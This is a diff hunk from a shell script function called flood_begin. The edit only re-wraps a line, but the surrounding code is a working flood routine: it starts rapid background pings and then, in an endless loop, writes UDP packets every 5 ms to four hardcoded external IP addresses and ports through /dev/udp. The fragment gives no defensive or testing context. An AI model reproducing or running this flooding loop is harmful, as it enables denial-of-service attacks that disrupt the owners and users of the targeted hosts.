@@ -43,7 +43,8 @@ flood_begin() {
 		ping -q -i 0.01 $target > /dev/null 2>&1 &
 	done
 	while :; do
-		for target in 77.74.176.10/443 37.203.128.5/80 2a03:2480:68::10/443 198.51.200.10/9; do
+		for target in 77.74.176.10/443 37.203.128.5/80 \
+			2a03:2480:68::10/443 198.51.200.10/9; do
 			echo x > /dev/udp/$target
 		done 2>/dev/null
 		sleep 0.005
